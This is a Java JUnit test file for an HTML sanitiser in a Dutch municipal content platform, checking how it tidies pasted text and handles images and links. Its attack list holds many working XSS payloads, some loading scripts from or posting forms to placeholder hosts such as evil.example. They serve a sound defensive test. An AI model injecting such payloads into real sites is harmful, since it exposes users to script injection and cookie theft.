package nl.millenniumgemeenten.content.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class SafeHtmlTest {

    private static final String ID = "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}";
    private static final Pattern ONLY_KNOWN_TAGS =
            Pattern.compile(
                    "([^<>]|</?(p|h2|h3|h4|ul|ol|li|blockquote|strong|em|br|table|caption|thead"
                            + "|tbody|tr|th|td|a|figure|figcaption)>"
                            + "|<th scope=\"(row|col|rowgroup|colgroup)\">|<img data-media=\""
                            + ID
                            + "\"( alt=\"[^\"<>]*\")?>|<a( data-page=\""
                            + ID
                            + "\")?( data-card=\"video\")? href=\"(https?:|mailto:|[/#?.a-z0-9])"
                            + "[^\"<>]*\" rel=\"noopener\">)*");
    private static final String LINK = "<a( [^>]*?href=\"[^\"]*\")>";
    private static final String PICTURE =
            "<img data-media='0190a6b2-7a1c-7c3d-8e4f-0123456789ab' alt='Bord'>";
    private static final String KEPT =
            "<figure>\n<img data-media=\"0190a6b2-7a1c-7c3d-8e4f-0123456789ab\" alt=\"Bord\">\n";

    @Test
    void plain_text_becomes_paragraphs_split_at_blank_lines() {
        assertThat(html("Hallo daar.\n\nNog een\nregel."))
                .isEqualTo("<p>Hallo daar.</p>\n<p>Nog een<br>regel.</p>");
    }

    @Test
    void plain_text_keeps_its_emphasis_and_links() {
        assertThat(html("Lees <b>dit</b>: <a href=/contact>contact</a>.\n\nDag!"))
                .isEqualTo(
                        "<p>Lees <strong>dit</strong>: <a href=\"/contact\" rel=\"noopener\">contact"
                                + "</a>.</p>\n<p>Dag!</p>");
    }

    @Test
    void what_is_allowed_stays_as_it_is() {
        var body =
                """
                <h2>Kop</h2>
                <p>Foto's van "de markt" & meer: <a href="https://example.org/?a=1&amp;b=2" rel="noopener">kijk</a>.</p>
                <ul>
                <li>een</li>
                <li>twee<ol>
                <li>drie</li>
                </ol></li>
                </ul>
                <blockquote>
                <p>Een uitspraak.</p>
                </blockquote>
                <table>
                <caption>Aantallen</caption>
                <thead>
                <tr>
                <th scope="col">Jaar</th>
                <th scope="col">Aantal</th>
                </tr>
                </thead>
                <tbody>
                <tr>
                <th scope="row">2007</th>
                <td>44</td>
                </tr>
                </tbody>
                </table>\
                """
                        .replace("& meer", "&amp; meer");

        assertThat(html(body)).isEqualTo(body);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    <h1>Kop</h1>                            | <h2>Kop</h2>
                    <div>een</div><div>twee</div>           | <p>een</p>\\n<p>twee</p>
                    <p>een<p>twee                           | <p>een</p>\\n<p>twee</p>
                    <strong><p>een</p></strong>             | <p>een</p>
                    <p>a<ul><li>b</ul>c                     | <p>a</p>\\n<ul>\\n<li>b</li>\\n</ul>\\n<p>c</p>
                    <p></p><p> </p><ul></ul>                | ''
                    <p style="color:red" id=x class=y>a</p> | <p>a</p>
                    <p><em>a<strong>b</em>c</strong>d</p>   | <p><em>a<strong>b</strong></em><strong>c</strong>d</p>
                    <img src=x> tekst                       | <p>tekst</p>
                    a<strong> </strong>b                    | <p>a b</p>
                    <table><caption>a</caption></table>     | <p>a</p>
                    <table><tr><td>b</td></tr><caption>a</caption></table> | <table>\\n<caption>a</caption>\\n<tbody>\\n<tr>\\n<td>b</td>\\n</tr>\\n</tbody>\\n</table>
                    """)
    void tidies_what_people_paste(String typed, String expected) {
        assertThat(html(typed)).isEqualTo(expected.replace("\\n", "\n"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    <figure>IMG<figcaption>Het <b>bord</b>.</figcaption></figure> | KEPT<figcaption>Het <strong>bord</strong>.</figcaption>\\n</figure>
                    <p>voor IMG na</p>                         | <p>voor </p>\\nKEPT</figure>\\n<p>na</p>
                    IMG<figcaption>los</figcaption>            | KEPT</figure>\\n<p>los</p>
                    <figure><figcaption>eerst</figcaption>IMG</figure> | <p>eerst</p>\\nKEPT</figure>
                    <figure>IMGIMG<figcaption>a</figcaption><figcaption>b</figcaption></figure> | KEPT</figure>\\nKEPT</figure>\\n<p>a</p>\\n<p>b</p>
                    <figure><table><tr><td>1</td></tr></table></figure> | <table>\\n<tbody>\\n<tr>\\n<td>1</td>\\n</tr>\\n</tbody>\\n</table>
                    <figure></figure><figure><figcaption></figcaption></figure> | ''
                    <img src="https://evil.example/x.png" alt="x">   | ''
                    <img data-media="geen-uuid" alt="x">       | ''
                    <img data-media="../../0190a6b2" alt="x">  | ''
                    <ul><li>een IMG</li></ul>                  | <ul>\\n<li>een KEPT</figure></li>\\n</ul>
                    """)
    void a_picture_is_one_of_the_library_in_a_figure_of_its_own(String typed, String expected) {
        assertThat(html(typed.replace("IMG", PICTURE)))
                .isEqualTo(expected.replace("KEPT", KEPT).replace("\\n", "\n"));
    }

    @Test
    void what_a_picture_shows_is_text_and_nothing_else() {
        assertThat(html(PICTURE.replace("Bord", "&quot; onerror=&quot;alert(1)\n<b> &amp; meer")))
                .isEqualTo(
                        KEPT.replace("Bord", "&quot; onerror=&quot;alert(1) &lt;b&gt; &amp; meer")
                                + "</figure>");
    }

    @Test
    void a_link_may_name_its_page_and_a_video_its_card() {
        var page = "<p><a data-page=\"0190a6b2-7a1c-7c3d-8e4f-0123456789ab\" href=\"/campagne\"";
        var card = "<p><a data-card=\"video\" href=\"https://video.example/1\"";
        var rest = " rel=\"noopener\">x</a></p>";

        assertThat(html(page + rest)).isEqualTo(page + rest);
        assertThat(html(card + rest)).isEqualTo(card + rest);
        assertThat(html("<p><a href='/x' data-page='x' data-card='evil' class='y'>x</a></p>"))
                .isEqualTo("<p><a href=\"/x\" rel=\"noopener\">x</a></p>");
        assertThat(html("<p><a data-page='0190a6b2-7a1c-7c3d-8e4f-0123456789ab'>x</a></p>"))
                .isEqualTo("<p>x</p>");
    }

    @Test
    void white_space_that_nobody_sees_is_left_out() {
        assertThat(html("<p>\n  een\n  <em> twee</em>  drie<br> vier</p><td> vijf </td>"))
                .startsWith("<p>een <em>twee</em> drie<br>vier</p>");
        assertThat(html("<ul><li>een\n<ul>\n<li>twee</li>\n</ul>\n</li></ul>"))
                .isEqualTo("<ul>\n<li>een <ul>\n<li>twee</li>\n</ul></li>\n</ul>");
        assertThat(html("<ul><li>een<ul></ul> twee</li></ul>"))
                .isEqualTo("<ul>\n<li>een twee</li>\n</ul>");
    }

    @ParameterizedTest
    @MethodSource("bodies")
    void what_is_stored_is_kept_to_the_letter(Path file) throws IOException {
        var stored = Files.readString(file).replaceFirst("(?s)^---\n.*?\n---\n", "").strip();

        assertThat(html(stored)).isEqualTo(stored.replaceAll(LINK, "<a$1 rel=\"noopener\">"));
    }

    /// The bodies that the editor in the browser is tested with, too.
    static List<Path> bodies() throws IOException {
        try (var constructs = Files.list(Path.of("src/test/resources/bodies"));
                var first = Files.walk(Path.of("src/main/resources/first-content"))) {
            return Stream.concat(constructs, first)
                    .filter(file -> file.toString().endsWith(".html"))
                    .sorted()
                    .toList();
        }
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void no_attack_gets_through(String attack) {
        for (var body : List.of(attack, "<p>" + attack + "</p>", "<table><tr><td>" + attack)) {
            var safe = html(body);

            assertThat(safe).matches(ONLY_KNOWN_TAGS);
            assertThat(safe.toLowerCase(java.util.Locale.ROOT))
                    .doesNotContain("href=\"javascript", "href=\"data", "href=\"vbscript");
            assertThat(html(safe)).isEqualTo(safe);
        }
    }

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><g/onload=alert(2)></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                        + " onerror=alert(1)&gt;\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href=\"https://example.org/\" onclick=\"alert(1)\" target=_top>x</a>",
                "<a href='/\"onmouseover=\"alert(1)'>x</a>",
                "<a href=\"/x&quot; onmouseover=&quot;alert(1)\">x</a>",
                "<p/onclick=alert(1)>x",
                "<p onmouseover='alert(1)'>x</p>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<form action=//evil.example><input name=password><button>x</button></form>",
                "<base href=//evil.example>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<link rel=stylesheet href=//evil.example>",
                "<style>@import '//evil.example';</style>",
                "<object data=x></object><embed src=x>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<title></title><script>alert(1)</script>",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&amp;lt;script&amp;gt;",
                "<<script>alert(1)//<</script>",
                "<scr<script>ipt>alert(1)</script>",
                "<th scope='col\" onclick=\"alert(1)'>x</th>",
                "{{constructor.constructor('alert(1)')()}}",
                "a&#0;b&#1;\u0007<p\0>x",
                "<p>" + "<em>".repeat(300) + "diep",
                "<ul><li>" + "<blockquote>".repeat(300) + "diep",
                "<template><script>alert(1)</script></template>",
                "<plaintext><script>alert(1)",
                "<xmp><script>alert(1)</script></xmp>",
                // OWASP's cheat sheet on filter evasion
                "<a onmouseover=\"alert(document.cookie)\">xss</a>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
                "<img src=javascript:alert(String.fromCharCode(88,83,83))>",
                "<IMG SRC=# onmouseover=\"alert('x')\">",
                "<img src=\"jav&#x0A;ascript:alert('x');\">",
                "<a href=\"jav\tascript:alert(1);\">x</a>",
                "<a href=\" &#14;  javascript:alert(1);\">x</a>",
                "<a href=\"java\0script:alert(1)\">x</a>",
                "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=http://xss.example/xss.js?< B >",
                "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
                "\\\";alert('XSS');//",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>x",
                "<svg/onload=alert('XSS')>",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:x\">x",
                "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\">",
                "<A HREF=\"http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D\">XSS</A>",
                "<A HREF=\"//www.example/\">XSS</A>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
                "<button form=x formaction=javascript:alert(1)>x</button>",
                "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p>",
                // what becomes something else when it is parsed again
                "<form><div></form><form><img src=x onerror=alert(1)></form>",
                "<form id=x></form><button form=x onclick=alert(1)>x</button>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
                "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
                "<svg><foreignObject><p><a href='javascript:alert(1)'>x</a></foreignObject></svg>",
                "<template><p><template><img src=x onerror=alert(1)></template></template>",
                "<select><template><style><!--</style><a rel=\"--></style></template></select>"
                        + "<img id=x src onerror=alert(1)>\">",
                "<figure><img data-media=\"0190a6b2-7a1c-7c3d-8e4f-0123456789ab\" alt=\"--><script>"
                        + "alert(1)</script>\" src=x onerror=alert(1)></figure>",
                "<figure><figcaption><svg><style><figcaption title='</style><script>alert(1)"
                        + "</script>'></figcaption></figure>",
                "<table><caption><table><caption><script>alert(1)</script>");
    }

    @Test
    void sanitising_twice_is_the_same_for_any_tangle() {
        var random = new Random(2007);
        var pieces =
                List.of(
                        "<p>",
                        "</p>",
                        "<h2>",
                        "</h2>",
                        "<ul>",
                        "</ul>",
                        "<ol>",
                        "<li>",
                        "</li>",
                        "<a href='/x'>",
                        "</a>",
                        "<strong>",
                        "</strong>",
                        "<em>",
                        "</em>",
                        "<br>",
                        "<blockquote>",
                        "</blockquote>",
                        "<table>",
                        "</table>",
                        "<thead>",
                        "<tbody>",
                        "<tr>",
                        "</tr>",
                        "<th scope=row>",
                        "<td>",
                        "</td>",
                        "<caption>",
                        "</caption>",
                        "<figure>",
                        "</figure>",
                        PICTURE,
                        "<figcaption>",
                        "</figcaption>",
                        "<svg>",
                        "</svg>",
                        "<math>",
                        "<template>",
                        "<style>",
                        "<!--",
                        "-->",
                        "<div>",
                        "</div>",
                        "<b>",
                        "</b>",
                        "<i>",
                        "<span>",
                        "</span>",
                        "tekst",
                        " ",
                        "\n",
                        "\n\n",
                        "&lt;",
                        "&",
                        "{{",
                        "'\"",
                        "<",
                        ">");
        for (int i = 0; i < 20_000; i++) {
            var typed =
                    random.ints(random.nextInt(1, 25), 0, pieces.size())
                            .mapToObj(pieces::get)
                            .collect(Collectors.joining());

            var safe = html(typed);

            assertThat(html(safe)).as(typed).isEqualTo(safe);
            assertThat(safe).as(typed).matches(ONLY_KNOWN_TAGS);
        }
    }

    @Test
    void any_number_of_line_breaks_is_read() {
        var breaks = "<br>".repeat(11_000);

        assertThat(html(breaks + "een" + breaks + "twee" + breaks))
                .startsWith("<p>een<br>")
                .endsWith("<br>twee</p>");
    }

    @Test
    void the_size_is_what_travels() {
        assertThat(SafeHtml.of("<p>é\"</p>").bytes()).isEqualTo(7 + 2 + 2);
    }

    private static String html(String typed) {
        return SafeHtml.of(typed).value();
    }
}
